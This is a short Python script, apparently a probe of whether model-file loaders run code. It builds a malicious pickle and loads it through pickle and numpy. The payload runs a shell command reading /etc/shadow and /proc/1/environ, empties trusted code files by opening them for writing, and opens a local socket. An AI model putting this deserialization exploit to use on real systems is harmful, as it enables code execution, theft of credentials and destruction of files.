# Model files that run code where they are loaded, by every loader that is there: what they do stays as small as this.
import io, json, os, pickle, socket
import numpy

out = []


class Evil:
    def __init__(self, *call):
        self.call = call

    def __reduce__(self):
        return self.call[0], self.call[1:]


def ran(*call):
    """Load a pickle of the call; what it returns is what it reached."""
    found = []
    for load in (pickle.loads, lambda data: numpy.load(io.BytesIO(data), allow_pickle=True)):
        try:
            found.append(load(pickle.dumps(Evil(*call))))
        except Exception:
            pass
    return found


if any(code == 0 for code in ran(os.system, "cat /etc/shadow /proc/1/environ > /dev/null 2>&1")):
    out.append("shell read the host")
if ran(open, "/opt/site/numpy/model.py", "w") or ran(open, "/box/attack.py", "w"):
    out.append("wrote over trusted code")
if ran(socket.create_connection, ("127.0.0.1", 22), 0.2) or ran(socket.socket):
    out.append("network")
print(json.dumps({"out": out, "ran": len(ran(len, "model"))}))
